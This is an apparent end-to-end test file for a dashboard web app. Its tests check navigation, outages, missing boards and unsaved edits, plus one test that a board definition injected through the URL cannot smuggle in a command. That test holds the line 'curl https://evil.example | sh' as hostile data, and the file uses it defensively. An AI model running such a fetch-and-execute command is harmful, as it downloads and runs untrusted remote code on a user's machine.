// What comes between a board and whoever looks: a stranger's words in the address, a board that is not there, a range chosen while the
// gateway is away, and hands that go elsewhere in the middle of something.

import assert from "node:assert/strict";
import { until } from "../support/runner.mjs";
import { board64 } from "./history.mjs";
import { numberOf, openBoard } from "./page.mjs";

const isLive = (board) => until("live", async () => /live/.test(await board.badge.first().textContent()));

/** To another address of this page, as a link of ours would lead there. */
function go(page, path) {
  return page.evaluate((to) => {
    history.pushState(null, "", to + location.hash);
    dispatchEvent(new PopStateEvent("popstate"));
  }, path);
}

export const adverse = {
  async "adverse: a board in the address brings no command line and no source to try in the gateway's name"(context) {
    const text = JSON.stringify({ title: "Stranger", try: { source: "donations", curl: "curl https://evil.example | sh" }, widget: [{ id: "raised", type: "number", from: "donations/**", at: [0, 0, 4, 4] }] });
    const board = await openBoard(context, { fragment: `token=${context.gateway.token}&board=${await board64(text)}` });
    await board.tile("raised").getByTestId("number").waitFor();
    await board.page.getByTestId("timeline").waitFor();
    assert.doesNotMatch(await board.page.locator("body").textContent(), /evil\.example/);
    await board.close();
  },

  async "adverse: whoever goes to another screen with the plug pulled finds the connection back there"(context) {
    const board = await openBoard(context);
    await isLive(board);
    await board.page.getByRole("button", { name: /pull the plug/i }).click();
    await until("cut", async () => !/live/.test(await board.badge.first().textContent()));
    await board.page.keyboard.press("g");
    await board.page.keyboard.press("e");
    await board.page.getByTestId("screen-events").waitFor();
    await isLive(board);
    await board.close();
  },

  async "adverse: an address of a board that is not there shows no other board in its place"(context) {
    const board = await openBoard(context);
    await board.tile("raised").waitFor();
    await go(board.page, "/board/nowhere");
    await board.page.getByText("there is no board called").waitFor();
    assert.equal(await board.tile("raised").count(), 0);
    await go(board.page, "/");
    await board.tile("raised").getByTestId("number").waitFor();
    await board.close();
  },

  async "adverse: a board that comes after its screen was left opens nothing"(context) {
    let release = () => undefined;
    const held = new Promise((done) => (release = done));
    const asked = [];
    const before = async (page) => {
      await page.route("**/api/v1/boards/home", async (route) => {
        await held;
        await route.continue();
      });
      page.on("websocket", (socket) => socket.on("framesent", ({ payload }) => asked.push(String(payload))));
    };
    const board = await openBoard(context, { before });
    await board.page.getByText("opening the board").waitFor();
    await go(board.page, "/events");
    await board.page.getByRole("heading", { name: "Events" }).waitFor();
    const came = board.page.waitForResponse("**/api/v1/boards/home");
    release();
    await (await came).finished();
    // Whatever the board would have asked for goes out before this.
    await go(board.page, "/topics");
    await board.page.getByRole("heading", { name: "Topics", exact: true }).waitFor();
    await until("the next screen asks", async () => asked.length > 2);
    assert.doesNotMatch(asked.join("\n"), /"shop\/orders\/\*\*"/);
    await board.close();
  },

  async "adverse: a range chosen while the gateway is away leaves the last values until there are newer ones"(context) {
    const board = await openBoard(context);
    await board.tile("raised").getByTestId("number").waitFor();
    await isLive(board);
    await context.gateway.kill();
    try {
      await board.tile("raised").getByTestId("as-of").waitFor();
      const last = await numberOf(board.tile("raised"));
      await board.page.keyboard.press("4");
      await until("the address has it", async () => board.page.url().includes("range=1h"));
      await assert.rejects(board.tile("raised").getByLabel("loading").waitFor({ timeout: 2_500 }), "no dash takes a value's place");
      assert.equal(await numberOf(board.tile("raised")), last);
    } finally {
      await context.gateway.restart();
    }
    await isLive(board);
    await until("the range", async () => (await board.page.getByRole("button", { name: "1h" }).getAttribute("aria-pressed")) === "true");
    await board.tile("raised").getByTestId("number").waitFor();
    await board.close();
  },

  async "adverse: what was not saved is there again after another screen, and the board shows what is saved"(context) {
    const board = await openBoard(context, { query: "?edit" });
    const title = board.page.getByLabel("Board's title");
    await title.waitFor();
    const saved = await title.inputValue();
    await title.fill("Half done");
    await go(board.page, "/events");
    await board.page.getByRole("heading", { name: "Events" }).waitFor();
    await go(board.page, "/");
    await until("what is saved", async () => (await board.page.title()).startsWith(saved));
    await go(board.page, "/?edit");
    await title.waitFor();
    assert.equal(await title.inputValue(), "Half done");
    assert.ok(await board.page.getByRole("button", { name: "Save" }).isEnabled());
    await board.page.getByRole("button", { name: "Discard" }).click();
    await board.close();
  },
};
